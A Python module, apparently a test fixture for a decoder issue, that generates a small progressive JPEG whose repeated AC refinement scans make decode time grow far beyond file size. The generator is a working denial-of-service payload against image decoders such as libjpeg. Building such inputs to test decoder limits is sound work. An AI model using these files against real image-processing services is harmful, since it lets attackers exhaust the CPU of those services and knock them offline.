"""Progressive-JPEG scan bombs, written marker by marker (issue 17, case 1).

A grayscale progressive JPEG (SOF2) whose coefficients are all zero: a DC first scan (one 1-bit Huffman
code per block), one AC first scan (Ss=1, Se=63, Al=1) and `refinements` AC refinement scans (Ah=1, Al=0),
each of which is a single end-of-band run covering every block. A refinement scan is 12 bytes (10 of SOS
header, 2 of entropy-coded data) for a 512x512 image, but the decoder still visits every block's 63
coefficients in each one: decode time grows as scans x blocks while the file stays small. Repeating a
refinement with the same Ah/Al is a "bogus progression" that libjpeg only warns about, so the file
decodes (to a uniform mid-grey image).

Facts used (ITU-T T.81): DHT gives 16 code-length counts then the symbols, codes assigned canonically;
an AC symbol 0xR0 with R < 15 is EOBn: an end-of-band run of 2^R + (R extra bits) blocks, at most 32,767;
entropy-coded bytes 0xFF are followed by a stuffed 0x00; a scan's last byte is padded with 1 bits.
"""

from __future__ import annotations

import struct

_MAX_EOB_RUN = 2**15 - 1


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


class _Bits:
    """MSB-first bit writer producing entropy-coded bytes (1-padded, 0xFF stuffed)."""

    def __init__(self) -> None:
        self.value, self.count = 0, 0

    def put(self, value: int, nbits: int) -> None:
        self.value = (self.value << nbits) | value
        self.count += nbits

    def data(self) -> bytes:
        pad = -self.count % 8
        raw = ((self.value << pad) | ((1 << pad) - 1)).to_bytes((self.count + pad) // 8, "big")
        return raw.replace(b"\xff", b"\xff\x00")


def _huffman(symbols: list[int]) -> tuple[bytes, dict[int, tuple[int, int]]]:
    """A DHT body's counts+symbols giving every symbol a code of one length (never the all-ones code)."""
    length = max(1, len(symbols).bit_length())  # 2^length > len(symbols): the all-ones code stays unused
    counts = [0] * 16
    counts[length - 1] = len(symbols)
    codes = {s: (i, length) for i, s in enumerate(symbols)}
    return bytes(counts) + bytes(symbols), codes


def _eob_runs(blocks: int) -> list[int]:
    runs = []
    while blocks:
        runs.append(min(blocks, _MAX_EOB_RUN))
        blocks -= runs[-1]
    return runs


def scan_bomb(refinements: int, width: int = 512, height: int = 512) -> bytes:
    """A valid progressive grayscale JPEG with 2 + `refinements` scans (see the module docstring)."""
    blocks = -(-width // 8) * -(-height // 8)  # one component, 1x1 sampling: an MCU is one block
    runs = _eob_runs(blocks)
    eob_symbols = sorted({(r.bit_length() - 1) << 4 for r in runs})
    dc_body, dc_codes = _huffman([0])  # DC difference category 0 only: every DC coefficient is 0
    ac_body, ac_codes = _huffman(eob_symbols)

    dc = _Bits()
    code, nbits = dc_codes[0]
    for _ in range(blocks):
        dc.put(code, nbits)
    ac = _Bits()
    for r in runs:
        k = r.bit_length() - 1
        code, nbits = ac_codes[k << 4]
        ac.put(code, nbits)
        ac.put(r - (1 << k), k)  # the run's low bits below its leading 1
    ac_data = ac.data()

    def sos(ss: int, se: int, ah: int, al: int) -> bytes:
        # One component (id 1), DC table 0 / AC table 0.
        return _segment(0xDA, bytes([1, 1, 0x00, ss, se, (ah << 4) | al]))

    parts = [
        b"\xff\xd8",
        _segment(0xDB, bytes([0x00]) + bytes([1] * 64)),  # quantisation table 0, all ones
        _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0])),
        _segment(0xC4, bytes([0x00]) + dc_body),  # DC table 0
        _segment(0xC4, bytes([0x10]) + ac_body),  # AC table 0
        sos(0, 0, 0, 0) + dc.data(),
        sos(1, 63, 0, 1) + ac_data,
    ]
    refine = sos(1, 63, 1, 0) + ac_data  # refinement: no nonzero coefficient, so no correction bits
    parts.append(refine * refinements)
    parts.append(b"\xff\xd9")
    return b"".join(parts)
